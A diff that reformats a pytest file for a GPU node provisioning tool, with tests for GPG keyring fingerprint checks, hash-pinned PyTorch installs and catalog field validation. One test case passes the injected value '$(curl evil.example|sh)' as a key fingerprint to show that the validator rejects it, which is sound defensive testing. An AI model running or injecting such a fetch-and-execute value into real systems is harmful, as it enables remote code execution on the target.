@@ -41,9 +41,25 @@ FAKES = {
 def make_key(gnupg: Path, name: str) -> str:
     """A fresh signing key in ``gnupg``; its fingerprint."""
     env = {**os.environ, "GNUPGHOME": str(gnupg)}
-    subprocess.run(["gpg", "--batch", "--passphrase", "", "--quick-gen-key", f"{name} <{name}@example.com>", "ed25519", "sign", "never"],
-                   env=env, check=True, capture_output=True)
-    out = subprocess.run(["gpg", "--with-colons", "--list-keys", name], env=env, check=True, capture_output=True, text=True).stdout
+    subprocess.run(
+        [
+            "gpg",
+            "--batch",
+            "--passphrase",
+            "",
+            "--quick-gen-key",
+            f"{name} <{name}@example.com>",
+            "ed25519",
+            "sign",
+            "never",
+        ],
+        env=env,
+        check=True,
+        capture_output=True,
+    )
+    out = subprocess.run(
+        ["gpg", "--with-colons", "--list-keys", name], env=env, check=True, capture_output=True, text=True
+    ).stdout
     return next(line.split(":")[9] for line in out.splitlines() if line.startswith("fpr:"))
 
 
@@ -54,18 +70,26 @@ def keyring_deb(tmp: Path, *names: str) -> tuple[Path, list[str]]:
     fprs = [make_key(gnupg, name) for name in names]
     root = tmp / "pkg"
     (root / "DEBIAN").mkdir(parents=True)
-    (root / "DEBIAN" / "control").write_text("Package: cuda-keyring\nVersion: 1.1-1\nArchitecture: all\nMaintainer: test <t@example.com>\nDescription: test\n")
+    (root / "DEBIAN" / "control").write_text(
+        "Package: cuda-keyring\nVersion: 1.1-1\nArchitecture: all\nMaintainer: test <t@example.com>\nDescription: test\n"
+    )
     (root / "usr/share/keyrings").mkdir(parents=True)
-    exported = subprocess.run(["gpg", "--export", *fprs], env={**os.environ, "GNUPGHOME": str(gnupg)}, check=True, capture_output=True).stdout
+    exported = subprocess.run(
+        ["gpg", "--export", *fprs], env={**os.environ, "GNUPGHOME": str(gnupg)}, check=True, capture_output=True
+    ).stdout
     (root / "usr/share/keyrings/cuda-archive-keyring.gpg").write_bytes(exported)
     deb = tmp / "cuda-keyring_1.1-1_all.deb"
     subprocess.run(["dpkg-deb", "--root-owner-group", "-b", str(root), str(deb)], check=True, capture_output=True)
     return deb, fprs
 
 
-def run_ready(tmp: Path, deb: Path, fingerprint: str) -> tuple[subprocess.CompletedProcess[str], list[str], dict[str, str]]:
+def run_ready(
+    tmp: Path, deb: Path, fingerprint: str
+) -> tuple[subprocess.CompletedProcess[str], list[str], dict[str, str]]:
     """``aitrain-node ready`` on an NVSwitch node whose keyring check expects ``fingerprint``: result, calls, status."""
-    gpu = replace(spec().gpu, cuda_repo_key=fingerprint, pytorch_version=None, pytorch_index_url=None, pytorch_sha256=())
+    gpu = replace(
+        spec().gpu, cuda_repo_key=fingerprint, pytorch_version=None, pytorch_index_url=None, pytorch_sha256=()
+    )
     text = files(yaml.safe_load(b.render_user_data(spec(gpu=gpu))))[b.NODE_SCRIPT_PATH]
     for path in ("/tmp/aitrain-keyring", b.ENV_DIR):
         text = text.replace(path, str(tmp / path.strip("/").replace("/", "_")))
@@ -78,7 +102,13 @@ def run_ready(tmp: Path, deb: Path, fingerprint: str) -> tuple[subprocess.Comple
     gnupg = tmp / "gnupg-node"
     gnupg.mkdir(mode=0o700)
     log = tmp / "log"
-    env = {"PATH": f"{bin_dir}:{os.environ['PATH']}", "LOG": str(log), "DEB": str(deb), "GNUPGHOME": str(gnupg), "HOME": str(tmp)}
+    env = {
+        "PATH": f"{bin_dir}:{os.environ['PATH']}",
+        "LOG": str(log),
+        "DEB": str(deb),
+        "GNUPGHOME": str(gnupg),
+        "HOME": str(tmp),
+    }
     run = subprocess.run(["sh", str(tmp / "node"), "ready"], env=env, capture_output=True, text=True, timeout=60)
     status_path = tmp / "etc_aitrain" / "status"
     status = dict(line.split("=", 1) for line in status_path.read_text().splitlines()) if status_path.exists() else {}
@@ -104,7 +134,9 @@ def test_a_keyring_with_another_key_stops_the_boot_before_dpkg(tmp_path):
     deb, (other,) = keyring_deb(tmp_path, "impostor")
     run, calls, status = run_ready(tmp_path, deb, NVIDIA_FPR)
     assert run.returncode == 1
-    assert not [c for c in calls if c.startswith(("dpkg", "apt-get", "systemctl enable"))]  # nothing installed or started
+    assert not [
+        c for c in calls if c.startswith(("dpkg", "apt-get", "systemctl enable"))
+    ]  # nothing installed or started
     assert status["state"] == "failed"
     assert status["detail"] == f"CUDA keyring has key(s) {other}, not NVIDIA's {NVIDIA_FPR}: not installed"
 
@@ -114,7 +146,9 @@ def test_a_keyring_that_adds_a_second_key_to_nvidias_is_refused_too(tmp_path):
     deb, fprs = keyring_deb(tmp_path, "cudatools", "extra")
     run, calls, status = run_ready(tmp_path, deb, fprs[0])
     assert run.returncode == 1 and status["state"] == "failed"
-    assert status["detail"] == f"CUDA keyring has key(s) {' '.join(sorted(fprs))}, not NVIDIA's {fprs[0]}: not installed"
+    assert (
+        status["detail"] == f"CUDA keyring has key(s) {' '.join(sorted(fprs))}, not NVIDIA's {fprs[0]}: not installed"
+    )
     assert not [c for c in calls if c.startswith("dpkg")]
 
 
@@ -130,7 +164,10 @@ def test_the_catalog_carries_nvidias_published_fingerprint_and_the_node_script_c
     catalog = load_catalog()
     software = catalog.gpu_software["gn7e"]
     assert software.cuda_repo_key_fingerprint == NVIDIA_FPR
-    assert "NVIDIA/cuda-repo-management" in software.source and "EB69 3B30 35CD 5710 E231 E123 A4B4 6996 3BF8 63CC" in software.source
+    assert (
+        "NVIDIA/cuda-repo-management" in software.source
+        and "EB69 3B30 35CD 5710 E231 E123 A4B4 6996 3BF8 63CC" in software.source
+    )
     node = files(yaml.safe_load(b.render_user_data(spec())))[b.NODE_SCRIPT_PATH]
     assert f"F={NVIDIA_FPR}\n" in node and '[ "$f" = "$F" ] ||' in node
 
@@ -151,11 +188,15 @@ def wheel(directory: Path, name: str, version: str, requires: tuple[str, ...] = 
     """A minimal pure-Python wheel for ``name`` (the import package ``name`` with one module)."""
     dist = f"{name.replace('-', '_')}-{version}"
     path = directory / f"{dist}-py3-none-any.whl"
-    meta = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n" + "".join(f"Requires-Dist: {r}\n" for r in requires)
+    meta = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n" + "".join(
+        f"Requires-Dist: {r}\n" for r in requires
+    )
     with zipfile.ZipFile(path, "w") as zf:
         zf.writestr(f"{name.replace('-', '_')}/__init__.py", "")
         zf.writestr(f"{dist}.dist-info/METADATA", meta)
-        zf.writestr(f"{dist}.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+        zf.writestr(
+            f"{dist}.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
+        )
         zf.writestr(f"{dist}.dist-info/RECORD", "")
     return path
 
@@ -182,9 +223,16 @@ def run_pytorch(tmp: Path, index: str, digests: tuple[str, ...]) -> tuple[subpro
     (tmp / "node").write_text(text.replace(b.TORCH_VENV, str(venv)))
     bin_dir = tmp / "bin"
     bin_dir.mkdir(exist_ok=True)
-    (bin_dir / "python3").write_text(f'#!/bin/sh\nexec {sys.executable} "$@"\n')  # the venv is made by this Python, offline
+    (bin_dir / "python3").write_text(
+        f'#!/bin/sh\nexec {sys.executable} "$@"\n'
+    )  # the venv is made by this Python, offline
     (bin_dir / "python3").chmod(0o755)
-    env = {"PATH": f"{bin_dir}:{os.environ['PATH']}", "PIP_DISABLE_PIP_VERSION_CHECK": "1", "PIP_NO_CACHE_DIR": "1", "HOME": str(tmp)}
+    env = {
+        "PATH": f"{bin_dir}:{os.environ['PATH']}",
+        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
+        "PIP_NO_CACHE_DIR": "1",
+        "HOME": str(tmp),
+    }
     run = subprocess.run(["sh", str(tmp / "node"), "pytorch"], env=env, capture_output=True, text=True, timeout=240)
     site = list(venv.glob("lib/python*/site-packages"))
     installed = {p.name.split("-")[0] for p in site[0].glob("*.dist-info")} if site else set()
@@ -223,9 +271,14 @@ def test_the_plan_names_every_unverified_boot_download():
         "PyTorch's dependencies (nvidia-*, triton, sympy, ...)",
         "eRDMA env_setup.sh and installer (http://mirrors.cloud.aliyuncs.com/erdma/)",
     ]
-    assert lines["PyTorch 2.5.1 wheel (https://download.pytorch.org/whl/cu124)"] == "pip --require-hashes against 1 sha256 digests from the catalog"
+    assert (
+        lines["PyTorch 2.5.1 wheel (https://download.pytorch.org/whl/cu124)"]
+        == "pip --require-hashes against 1 sha256 digests from the catalog"
+    )
     no_hash = dict(b.boot_downloads(replace(gpu, pytorch_sha256=()), b.Fabric("tcp")))
-    assert no_hash["PyTorch 2.5.1 wheel (https://download.pytorch.org/whl/cu124)"].startswith("UNVERIFIED: the catalog has no sha256")
+    assert no_hash["PyTorch 2.5.1 wheel (https://download.pytorch.org/whl/cu124)"].startswith(
+        "UNVERIFIED: the catalog has no sha256"
+    )
     assert not any("eRDMA" in what for what in no_hash)
 
 
@@ -244,15 +297,31 @@ def data(tmp_path: Path) -> Path:
 @pytest.mark.parametrize(
     ("cells", "column", "problem"),
     [
-        ({"pytorch_wheel_sha256": "9DDE30F3"}, "pytorch_wheel_sha256",
-         "must be sha256 digests (64 lower-case hex digits) separated by spaces, or empty (not checked) (got '9DDE30F3')"),
-        ({"cuda_repo_key_fingerprint": "EB69 3B30 35CD 5710 E231 E123 A4B4 6996 3BF8 63CC"}, "cuda_repo_key_fingerprint",
-         "must be an OpenPGP fingerprint of 40 upper-case hex digits without spaces, or empty (got 'EB69 3B30 35CD 5710 E231 E123 A4B4 6996 3BF8 63CC')"),
-        ({"cuda_repo_key_fingerprint": "$(curl evil.example|sh)"}, "cuda_repo_key_fingerprint",
-         "must be an OpenPGP fingerprint of 40 upper-case hex digits without spaces, or empty (got '$(curl evil.example|sh)')"),
-        ({"cuda_repo_key_fingerprint": ""}, "cuda_repo_key_fingerprint",
-         "is required with fabric_manager_min_gpus (nodes check NVIDIA's CUDA keyring against it)"),
-        ({"pytorch_version": "", "pytorch_index_url": ""}, "pytorch_wheel_sha256", "needs pytorch_version (the wheels these digests check)"),
+        (
+            {"pytorch_wheel_sha256": "9DDE30F3"},
+            "pytorch_wheel_sha256",
+            "must be sha256 digests (64 lower-case hex digits) separated by spaces, or empty (not checked) (got '9DDE30F3')",
+        ),
+        (
+            {"cuda_repo_key_fingerprint": "EB69 3B30 35CD 5710 E231 E123 A4B4 6996 3BF8 63CC"},
+            "cuda_repo_key_fingerprint",
+            "must be an OpenPGP fingerprint of 40 upper-case hex digits without spaces, or empty (got 'EB69 3B30 35CD 5710 E231 E123 A4B4 6996 3BF8 63CC')",
+        ),
+        (
+            {"cuda_repo_key_fingerprint": "$(curl evil.example|sh)"},
+            "cuda_repo_key_fingerprint",
+            "must be an OpenPGP fingerprint of 40 upper-case hex digits without spaces, or empty (got '$(curl evil.example|sh)')",
+        ),
+        (
+            {"cuda_repo_key_fingerprint": ""},
+            "cuda_repo_key_fingerprint",
+            "is required with fabric_manager_min_gpus (nodes check NVIDIA's CUDA keyring against it)",
+        ),
+        (
+            {"pytorch_version": "", "pytorch_index_url": ""},
+            "pytorch_wheel_sha256",
+            "needs pytorch_version (the wheels these digests check)",
+        ),
     ],
 )
 def test_the_loader_takes_only_digests_and_fingerprints_and_names_the_cell(data, cells, column, problem):
@@ -265,6 +334,12 @@ def test_the_loader_takes_only_digests_and_fingerprints_and_names_the_cell(data,
 def test_a_row_without_fabric_manager_may_leave_the_fingerprint_empty(data):
     from tests.catalog.test_loader_checks import edit, index_of
 
-    edit(data, "gpu_software.csv", index_of(data, "gpu_software.csv", "family", "gn7i"), cuda_repo_key_fingerprint="", pytorch_wheel_sha256="")
+    edit(
+        data,
+        "gpu_software.csv",
+        index_of(data, "gpu_software.csv", "family", "gn7i"),
+        cuda_repo_key_fingerprint="",
+        pytorch_wheel_sha256="",
+    )
     software = load_catalog(data).gpu_software["gn7i"]
     assert (software.cuda_repo_key_fingerprint, software.pytorch_wheel_sha256) == (None, ())
